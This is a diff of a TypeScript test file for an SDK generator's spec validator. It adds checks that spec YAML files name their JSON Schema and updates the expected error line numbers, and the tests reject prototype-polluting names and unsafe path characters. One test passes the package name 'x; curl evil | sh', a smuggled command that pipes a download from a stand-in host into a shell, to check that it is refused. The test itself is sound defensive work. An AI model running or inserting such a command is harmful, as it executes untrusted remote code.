@@ -12,6 +12,8 @@ import { buildIr, defaultPaths, generate, type Paths } from '../generator/genera
 import type { Api } from '../generator/ir.js';
 import type { OperationId } from '../generated/src/operations.js';
 import { loadSpec } from '../generator/load.js';
+import { jsonSchemas } from '../generator/json-schema.js';
+import { loadMcpSpec } from '../generator/mcp.js';
 import { locatorKindOf } from '../generator/expand-locators.js';
 import { InvalidSpecError, validateSpec } from '../generator/validate.js';
 import { handWrittenFiles, HAND_WRITTEN, ownedFiles, writeFiles } from '../generator/write.js';
@@ -92,6 +94,13 @@ describe('the real spec', () => {
     expect(stale, 'files out of date with spec/').toEqual([]);
   });
 
+  it('matches the committed spec/schema/, the JSON Schemas of the spec files (run npm run generate when this fails)', () => {
+    const dir = join(root, 'spec/schema');
+    const made = jsonSchemas();
+    expect(ownedFiles(dir).sort(), 'files in spec/schema/').toEqual([...made.keys()].sort());
+    for (const [path, text] of made) expect(readFileSync(join(dir, path), 'utf8'), `spec/schema/${path} out of date`).toBe(text);
+  });
+
   it('never writes a hand-written file: each one under src/ is marked by its first line, and none is made', async () => {
     const files = await first;
     const handWritten = handWrittenFiles(join(root, 'generated'));
@@ -167,17 +176,17 @@ describe('validation', () => {
   it('names the file, line and operation of each mistake', () => {
     const paths = broken((y) => y.replace('method: PUT', 'method: PATCH').replace('pathParams: [widgetLocator, field]', 'pathParams: [field]'));
     expect(errorsOf(paths)).toEqual([
-      'areas/widgets.yaml:20 widgets.set_widget_field: method must be one of GET, POST, PUT, DELETE',
-      'areas/widgets.yaml:20 widgets.set_widget_field: pathParams [field] must list the path\'s placeholders in order: [widgetLocator, field]',
+      'areas/widgets.yaml:21 widgets.set_widget_field: method must be one of GET, POST, PUT, DELETE',
+      'areas/widgets.yaml:21 widgets.set_widget_field: pathParams [field] must list the path\'s placeholders in order: [widgetLocator, field]',
     ]);
   });
 
   it('refuses an example no body uses, and an example of the wrong kind for its body', () => {
     expect(errorsOf(broken((y) => y.concat('  widgets.serve_widgets: x\n'), 'examples.yaml'))).toEqual([
-      'examples.yaml:5 : operations.widgets.serve_widgets: no operation sends that body',
+      'examples.yaml:6 : operations.widgets.serve_widgets: no operation sends that body',
     ]);
     expect(errorsOf(broken((y) => y.replace('set_widget_field: blue', 'set_widget_field: { color: blue }'), 'examples.yaml'))).toEqual([
-      'areas/widgets.yaml:20 widgets.set_widget_field: its example in spec/examples.yaml must be a text, as its body is',
+      'areas/widgets.yaml:21 widgets.set_widget_field: its example in spec/examples.yaml must be a text, as its body is',
     ]);
   });
 
@@ -209,19 +218,19 @@ describe('validation', () => {
       'models/widgets.yaml',
     );
     expect(errorsOf(paths)).toEqual([
-      'models/widgets.yaml:9 model Widget: property state: enum must be a non-empty list of strings, on a string property',
-      'models/widgets.yaml:15 model Widget: property labels: or must be a scalar type other than type, with a note that says which servers send it',
-      'models/widgets.yaml:16 model Widgets: collection.item count must name a list property',
-      'models/widgets.yaml:16 model Widgets: a paged collection must have a nextHref property',
-      'models/widgets.yaml:10 model Widget: property made: model Gadget is not defined in spec/models',
+      'models/widgets.yaml:10 model Widget: property state: enum must be a non-empty list of strings, on a string property',
+      'models/widgets.yaml:16 model Widget: property labels: or must be a scalar type other than type, with a note that says which servers send it',
+      'models/widgets.yaml:17 model Widgets: collection.item count must name a list property',
+      'models/widgets.yaml:17 model Widgets: a paged collection must have a nextHref property',
+      'models/widgets.yaml:11 model Widget: property made: model Gadget is not defined in spec/models',
     ]);
   });
 
   it('refuses an operation whose result or body model is not in spec/models', () => {
     const paths = broken((y) => y.replace('  - name: Widgets\n', '  - name: Gizmos\n'), 'models/widgets.yaml');
     expect(errorsOf(paths)).toEqual([
-      'models/widgets.yaml:14 model Widget: property parts: model Widgets is not defined in spec/models',
-      'areas/widgets.yaml:6 widgets.serve_widgets: model Widgets is not defined in spec/models',
+      'models/widgets.yaml:15 model Widget: property parts: model Widgets is not defined in spec/models',
+      'areas/widgets.yaml:7 widgets.serve_widgets: model Widgets is not defined in spec/models',
     ]);
   });
 
@@ -231,6 +240,24 @@ describe('validation', () => {
 
   it('reports YAML syntax errors with their line', () => {
     expect(errorsOf(broken((y) => y.replace('  - name: delete', '  - name: [delete')))[0]).toMatch(/^areas\/widgets\.yaml:\d+ : /);
+  });
+
+  it('refuses a spec file whose first line does not name its JSON Schema, naming the file and the line it needs', async () => {
+    const dropFirst = (y: string) => y.slice(y.indexOf('\n') + 1);
+    const needs = (file: string, found: string, line: string) =>
+      `${file}:1 : the line that names its JSON Schema ${found}: its first line must be "# yaml-language-server: $schema=${line}"`;
+    expect(errorsOf(broken(dropFirst))).toEqual([needs('areas/widgets.yaml', 'is missing', '../schema/area.schema.json')]);
+    expect(errorsOf(broken((y) => y.replace('models.schema.json', 'area.schema.json'), 'models/widgets.yaml'))).toEqual([
+      needs('models/widgets.yaml', 'names another schema', '../schema/models.schema.json'),
+    ]);
+    for (const kind of ['file-tree', 'locators', 'examples', 'tasks']) {
+      expect(errorsOf(broken(dropFirst, `${kind}.yaml`))).toEqual([needs(`${kind}.yaml`, 'is missing', `schema/${kind}.schema.json`)]);
+    }
+    // package.yaml and mcp.yaml are read on their own.
+    await expect(generate(broken(dropFirst, 'package.yaml'))).rejects.toThrow(needs('package.yaml', 'is missing', 'schema/package.schema.json').replace(' :', ':'));
+    const paths = broken((y) => y);
+    writeFileSync(join(paths.spec, 'mcp.yaml'), 'overrides: {}\n');
+    expect(() => loadMcpSpec(paths, buildIr(paths))).toThrow(needs('mcp.yaml', 'is missing', 'schema/mcp.schema.json').replace(' :', ':'));
   });
 
   describe('words', () => {
@@ -248,79 +275,79 @@ describe('validation', () => {
           ),
         ),
       ).toEqual([
-        `areas/widgets.yaml:6 widgets.serve_widgets: ${RESTATES}`,
-        'areas/widgets.yaml:20 widgets.set_widget_field: summary is the placeholder spec:import writes: say what the operation does',
-        `areas/widgets.yaml:31 widgets.delete: ${RESTATES}`,
-        `areas/widgets.yaml:57 widgets.serve_icon: ${RESTATES}`,
+        `areas/widgets.yaml:7 widgets.serve_widgets: ${RESTATES}`,
+        'areas/widgets.yaml:21 widgets.set_widget_field: summary is the placeholder spec:import writes: say what the operation does',
+        `areas/widgets.yaml:32 widgets.delete: ${RESTATES}`,
+        `areas/widgets.yaml:58 widgets.serve_icon: ${RESTATES}`,
       ]);
       expect(errorsOf(broken((y) => y.replace('summary: Delete a widget', `summary: Delete a widget${' and more'.repeat(11)}`)))).toEqual([
-        'areas/widgets.yaml:31 widgets.delete: summary must be at most 99 characters (it is 114)',
+        'areas/widgets.yaml:32 widgets.delete: summary must be at most 99 characters (it is 114)',
       ]);
       expect(errorsOf(broken((y) => y.replace('summary: Delete a widget', 'summary: delete a widget.')))).toEqual([
-        'areas/widgets.yaml:31 widgets.delete: summary must start with a capital letter and end without a full stop (one imperative line)',
+        'areas/widgets.yaml:32 widgets.delete: summary must start with a capital letter and end without a full stop (one imperative line)',
       ]);
-      expect(errorsOf(broken((y) => y.replace('    summary: Delete a widget\n', '')))).toEqual(['areas/widgets.yaml:31 widgets.delete: summary must be a string']);
+      expect(errorsOf(broken((y) => y.replace('    summary: Delete a widget\n', '')))).toEqual(['areas/widgets.yaml:32 widgets.delete: summary must be a string']);
     });
 
     it('keeps summaries unique within an area, stamped file-tree operations included', () => {
       expect(errorsOf(broken((y) => y.replace('summary: Delete a widget', 'summary: List widgets')))).toEqual([
-        "areas/widgets.yaml:31 widgets.delete: its summary is also serve_widgets's: say what tells them apart",
+        "areas/widgets.yaml:32 widgets.delete: its summary is also serve_widgets's: say what tells them apart",
       ]);
       // `{tree}` is the prefix's `tree` once stamped: "a widget's files".
       expect(errorsOf(broken((y) => y.replace("summary: Download a widget's icon", "summary: Download a file from a widget's files")))).toEqual([
-        "file-tree.yaml:11 widgets.get_content: its summary is also serve_icon's: say what tells them apart",
+        "file-tree.yaml:12 widgets.get_content: its summary is also serve_icon's: say what tells them apart",
       ]);
       expect(errorsOf(broken((y) => y.replace("tree: a widget's files", `tree: a widget's files${', really'.repeat(10)}`), 'file-tree.yaml'))).toEqual([
-        'file-tree.yaml:11 widgets.get_content: its summary, stamped, is 117 characters: at most 99',
+        'file-tree.yaml:12 widgets.get_content: its summary, stamped, is 117 characters: at most 99',
       ]);
       expect(errorsOf(broken((y) => y.replace('summary: List widgets', 'summary: List widgets of {tree}')))).toEqual([
-        'areas/widgets.yaml:6 widgets.serve_widgets: summary must say what the operation does, not restate its method and path',
+        'areas/widgets.yaml:7 widgets.serve_widgets: summary must say what the operation does, not restate its method and path',
       ]);
     });
 
     it('gives every function name once in an area: an alias may not be an operation or another alias', () => {
       const aliased = (aliases: string) => errorsOf(broken((y) => y.replace('aliases: [read_widget_status]', `aliases: [${aliases}]`)));
-      expect(aliased('delete')).toEqual(['areas/widgets.yaml:38 widgets.get_status: its alias delete is the name of operation delete']);
-      expect(aliased('get_widgets')).toEqual(['areas/widgets.yaml:38 widgets.get_status: its alias get_widgets is the name of an alias of serve_widgets']);
+      expect(aliased('delete')).toEqual(['areas/widgets.yaml:39 widgets.get_status: its alias delete is the name of operation delete']);
+      expect(aliased('get_widgets')).toEqual(['areas/widgets.yaml:39 widgets.get_status: its alias get_widgets is the name of an alias of serve_widgets']);
       // Compared as TypeScript names: set_widget_field0 and set_widget_field_0 are one name.
       expect(errorsOf(broken((y) => y.replace('name: delete', 'name: set_widget_field_0\n    aliases: [remove_widget]').replace('aliases: [read_widget_status]', 'aliases: [set_widget_field0]')))).toEqual([
-        'areas/widgets.yaml:39 widgets.get_status: its alias set_widget_field0 is the name of operation set_widget_field_0',
+        'areas/widgets.yaml:40 widgets.get_status: its alias set_widget_field0 is the name of operation set_widget_field_0',
       ]);
-      expect(aliased('get_status')).toEqual(['areas/widgets.yaml:38 widgets.get_status: alias get_status is the operation\'s own name']);
-      expect(aliased('Read')).toEqual(['areas/widgets.yaml:38 widgets.get_status: aliases.0 must be snake_case']);
-      expect(aliased('to_string')).toEqual(['areas/widgets.yaml:38 widgets.get_status: alias to_string: its function name "toString" is a key every JavaScript object inherits']);
+      expect(aliased('get_status')).toEqual(['areas/widgets.yaml:39 widgets.get_status: alias get_status is the operation\'s own name']);
+      expect(aliased('Read')).toEqual(['areas/widgets.yaml:39 widgets.get_status: aliases.0 must be snake_case']);
+      expect(aliased('to_string')).toEqual(['areas/widgets.yaml:39 widgets.get_status: alias to_string: its function name "toString" is a key every JavaScript object inherits']);
       // A name that differs from another only by a number needs one that says what it does.
       expect(errorsOf(broken((y) => y.replace('name: delete', 'name: delete_0')))).toEqual([
-        'areas/widgets.yaml:31 widgets.delete_0: a numbered name needs an alias that says what the operation does',
+        'areas/widgets.yaml:32 widgets.delete_0: a numbered name needs an alias that says what the operation does',
       ]);
       expect(errorsOf(broken((y) => y.replace('name: delete', 'name: delete_0\n    aliases: [delete_widget]')))).toEqual([]);
     });
 
     it('requires words where an input name cannot say it all, and refuses words for inputs that do not exist', () => {
       expect(errorsOf(broken((y) => y.replace('      field: "The field: `name` or `color`"\n', '')))).toEqual([
-        "areas/widgets.yaml:20 widgets.set_widget_field: path parameter field needs words: say what it is in the operation's inputs",
+        "areas/widgets.yaml:21 widgets.set_widget_field: path parameter field needs words: say what it is in the operation's inputs",
       ]);
       expect(errorsOf(broken((y) => y.replace('      body: The new value, as plain text\n', '')))).toEqual([
-        "areas/widgets.yaml:20 widgets.set_widget_field: the text body needs words: say what it is in the operation's inputs",
+        "areas/widgets.yaml:21 widgets.set_widget_field: the text body needs words: say what it is in the operation's inputs",
       ]);
       expect(errorsOf(broken((y) => y.replace('      fields2: The fields once more', '      fields3: The fields once more')))).toEqual([
-        'areas/widgets.yaml:38 widgets.get_status: inputs: fields3 is not an input of this operation',
+        'areas/widgets.yaml:39 widgets.get_status: inputs: fields3 is not an input of this operation',
       ]);
       expect(errorsOf(broken((y) => y.replace("path: \"The file's path (`a/b.txt`)\"", 'path: x'), 'file-tree.yaml'))).toEqual([]);
       expect(errorsOf(broken((y) => y.replace("      path: \"The file's path (`a/b.txt`)\"\n", '      other: x\n'), 'file-tree.yaml'))).toEqual([
-        'file-tree.yaml:2 file-tree.get_content: inputs: other is not an input of this operation',
+        'file-tree.yaml:3 file-tree.get_content: inputs: other is not an input of this operation',
       ]);
       expect(errorsOf(broken((y) => y.replace("    inputs:\n      path: \"The file's path (`a/b.txt`)\"\n", ''), 'file-tree.yaml'))).toEqual([
-        "file-tree.yaml:9 widgets.get_content: path parameter path needs words: say what it is in the operation's inputs",
+        "file-tree.yaml:10 widgets.get_content: path parameter path needs words: say what it is in the operation's inputs",
       ]);
       expect(errorsOf(broken((y) => y.replace('    noun: widget\n', ''), 'locators.yaml'))).toEqual([
-        'locators.yaml:17 : kind Widget: a kind needs its noun (what one item is, in words)',
+        'locators.yaml:18 : kind Widget: a kind needs its noun (what one item is, in words)',
       ]);
     });
 
     it('refuses a task whose call is not an operation', () => {
       expect(errorsOf(broken((y) => y.replace('call: widgets.serve_widgets', 'call: widgets.serve_gadgets'), 'tasks.yaml'))).toEqual([
-        'tasks.yaml:5 : widgets.serve_gadgets is not an operation',
+        'tasks.yaml:6 : widgets.serve_gadgets is not an operation',
       ]);
     });
   });
@@ -338,17 +365,17 @@ describe('validation', () => {
             .replace('broken: { type: boolean }', 'broken: { type: boolean, anyCase: true }'),
         ),
       ).toEqual([
-        'locators.yaml:22 : kind Widget: dimension name: unknown key "repeats" (allowed: type, repeat, hidden, source, numeric, anyCase)',
-        'locators.yaml:23 : kind Widget: dimension count: type float is not string, integer, boolean, date, an enum or a kind',
-        'locators.yaml:24 : kind Widget: dimension broken: anyCase is for an enum, and boolean is not one',
-        'locators.yaml:29 : kind Widget: hidden dimension secret needs its source',
+        'locators.yaml:23 : kind Widget: dimension name: unknown key "repeats" (allowed: type, repeat, hidden, source, numeric, anyCase)',
+        'locators.yaml:24 : kind Widget: dimension count: type float is not string, integer, boolean, date, an enum or a kind',
+        'locators.yaml:25 : kind Widget: dimension broken: anyCase is for an enum, and boolean is not one',
+        'locators.yaml:30 : kind Widget: hidden dimension secret needs its source',
       ]);
     });
 
     it('requires a kind for every *Locator path parameter and every locator query input', () => {
       const errors = locators((y) => y.replace('  path:\n    widgetLocator: Widget\n', '  path: {}\n').replace('widgets.serve_widgets: { locator: Widget }', 'widgets.serve_widgets: {}'));
-      expect(errors).toContain('areas/widgets.yaml:6 widgets.serve_widgets: query input locator is a locator: give it a kind in locators.yaml inputs.operations');
-      expect(errors).toContain('areas/widgets.yaml:20 widgets.set_widget_field: path parameter widgetLocator looks like a locator: give it a kind in locators.yaml');
+      expect(errors).toContain('areas/widgets.yaml:7 widgets.serve_widgets: query input locator is a locator: give it a kind in locators.yaml inputs.operations');
+      expect(errors).toContain('areas/widgets.yaml:21 widgets.set_widget_field: path parameter widgetLocator looks like a locator: give it a kind in locators.yaml');
     });
 
     it('refuses mappings to unknown kinds, conditions, operations, inputs and non-string inputs', () => {
@@ -358,13 +385,13 @@ describe('validation', () => {
           .replace('widgets.serve_widgets: { locator: Widget }', 'widgets.serve_widgets: { locator: Stamp }\n    widgets.nope: { locator: Widget }'),
       );
       expect(errors).toEqual([
-        'locators.yaml:32 : Gadget is not a kind (nor untyped)',
-        'locators.yaml:34 : Stamp is a condition, not a locator an input can take',
+        'locators.yaml:33 : Gadget is not a kind (nor untyped)',
+        'locators.yaml:35 : Stamp is a condition, not a locator an input can take',
       ]);
       expect(locators((y) => y.replace('{ locator: Widget }', '{ locator: Widget, include_all: Widget, colour: Widget }\n    widgets.nope: { locator: Widget }'))).toEqual([
-        'locators.yaml:34 widgets.serve_widgets: query input include_all is a boolean, not a string',
-        'locators.yaml:34 widgets.serve_widgets: widgets.serve_widgets has no input colour',
-        'locators.yaml:35 : widgets.nope is not an operation',
+        'locators.yaml:35 widgets.serve_widgets: query input include_all is a boolean, not a string',
+        'locators.yaml:35 widgets.serve_widgets: widgets.serve_widgets has no input colour',
+        'locators.yaml:36 : widgets.nope is not an operation',
       ]);
     });
   });
@@ -387,8 +414,8 @@ describe('validation', () => {
             .replace('      suffix: "The image format', '      toString: "The image format'),
         ),
       ).toEqual([
-        'areas/widgets.yaml:31 widgets.delete: path parameter "__proto__" is a key every JavaScript object inherits',
-        'areas/widgets.yaml:57 widgets.serve_icon: path parameter "toString" is a key every JavaScript object inherits',
+        'areas/widgets.yaml:32 widgets.delete: path parameter "__proto__" is a key every JavaScript object inherits',
+        'areas/widgets.yaml:58 widgets.serve_icon: path parameter "toString" is a key every JavaScript object inherits',
       ]);
     });
 
@@ -401,9 +428,9 @@ describe('validation', () => {
             .replace('{ name: count, wire: count,', '{ name: count, wire: "!!!",'),
         ),
       ).toEqual([
-        'areas/widgets.yaml:6 widgets.serve_widgets: query input value_of: its argument "valueOf" is a key every JavaScript object inherits',
-        'areas/widgets.yaml:6 widgets.serve_widgets: query input count: wire name "!!!" has no letter or digit (A-Z, a-z, 0-9)',
-        'areas/widgets.yaml:31 widgets.constructor: its function name "constructor" is a key every JavaScript object inherits',
+        'areas/widgets.yaml:7 widgets.serve_widgets: query input value_of: its argument "valueOf" is a key every JavaScript object inherits',
+        'areas/widgets.yaml:7 widgets.serve_widgets: query input count: wire name "!!!" has no letter or digit (A-Z, a-z, 0-9)',
+        'areas/widgets.yaml:32 widgets.constructor: its function name "constructor" is a key every JavaScript object inherits',
       ]);
     });
 
@@ -413,22 +440,22 @@ describe('validation', () => {
           y.replace('path: /app/rest/widgets/{widgetLocator}\n', 'path: "/app/rest/widgets/{widgetLocator} `x` | y"\n'),
         ),
       ).toEqual([
-        "areas/widgets.yaml:31 widgets.delete: path must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
+        "areas/widgets.yaml:32 widgets.delete: path must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
       ]);
       expect(areas((y) => y.replace('base: /app/rest/widgets', 'base: "/app/rest/widgets\\n"'))).toContain(
-        "areas/widgets.yaml:4 : base must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
+        "areas/widgets.yaml:5 : base must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
       );
       expect(
         errorsOf(broken((y) => y.replace('{widgetLocator}/files', '{constructor}/files{!}'), 'file-tree.yaml')),
       ).toEqual([
-        "file-tree.yaml:11 prefix /app/rest/widgets/{constructor}/files{!}: prefix must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
-        'file-tree.yaml:11 prefix /app/rest/widgets/{constructor}/files{!}: path parameter "constructor" is a key every JavaScript object inherits',
+        "file-tree.yaml:12 prefix /app/rest/widgets/{constructor}/files{!}: prefix must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
+        'file-tree.yaml:12 prefix /app/rest/widgets/{constructor}/files{!}: path parameter "constructor" is a key every JavaScript object inherits',
       ]);
     });
 
     it('an area name that is a reserved word (it names a namespace import)', () => {
       expect(areas((y) => y.replace('area: widgets', 'area: delete'))).toContain(
-        'areas/widgets.yaml:2 : area "delete" is a reserved word of JavaScript',
+        'areas/widgets.yaml:3 : area "delete" is a reserved word of JavaScript',
       );
     });
 
@@ -444,10 +471,10 @@ describe('validation', () => {
         ),
       );
       expect(errors).toEqual([
-        'models/widgets.yaml:8 model Widget: property constructor: name "constructor" is a key every JavaScript object inherits',
-        'models/widgets.yaml:9 model Widget: property state: enum value "a */ b" would close a comment (it holds */)',
-        'models/widgets.yaml:11 model Widget: property two\nlines: name "two\\nlines" holds a line break or a control character',
-        'models/widgets.yaml:16 model Widgets: wire name "---" has no letter or digit (A-Z, a-z, 0-9)',
+        'models/widgets.yaml:9 model Widget: property constructor: name "constructor" is a key every JavaScript object inherits',
+        'models/widgets.yaml:10 model Widget: property state: enum value "a */ b" would close a comment (it holds */)',
+        'models/widgets.yaml:12 model Widget: property two\nlines: name "two\\nlines" holds a line break or a control character',
+        'models/widgets.yaml:17 model Widgets: wire name "---" has no letter or digit (A-Z, a-z, 0-9)',
       ]);
     });
 
@@ -461,9 +488,9 @@ describe('validation', () => {
             .replace(/Shelf/g, 'ValueOf'),
         ),
       ).toEqual([
-        'locators.yaml:3 : enum WidgetState: value "a */" would close a comment (it holds */)',
-        'locators.yaml:5 : kind ValueOf: its name in `locator` "valueOf" is a key every JavaScript object inherits',
-        'locators.yaml:22 : kind Widget: dimension "constructor" is a key every JavaScript object inherits',
+        'locators.yaml:4 : enum WidgetState: value "a */" would close a comment (it holds */)',
+        'locators.yaml:6 : kind ValueOf: its name in `locator` "valueOf" is a key every JavaScript object inherits',
+        'locators.yaml:23 : kind Widget: dimension "constructor" is a key every JavaScript object inherits',
       ]);
       expect(
         locators((y) =>
@@ -472,7 +499,7 @@ describe('validation', () => {
             '      __proto__: { type: string }\n      name: { type: string }\n',
           ),
         ),
-      ).toEqual(['locators.yaml:22 : kinds.Widget.dimensions.__proto__: the key __proto__ cannot name anything']);
+      ).toEqual(['locators.yaml:23 : kinds.Widget.dimensions.__proto__: the key __proto__ cannot name anything']);
     });
 
     it('reads no spec name as a key an object inherits', () => {
@@ -488,7 +515,7 @@ describe('validation', () => {
         broken((y) => y.replace('name: tiny-sdk', 'name: x; curl evil | sh'), 'package.yaml'),
       ).catch((x: unknown) => x);
       expect(e).toBeInstanceOf(InvalidSpecError);
-      expect((e as InvalidSpecError).message).toContain('package.yaml:1: name must be an npm package name');
+      expect((e as InvalidSpecError).message).toContain('package.yaml:2: name must be an npm package name');
     });
   });
 });
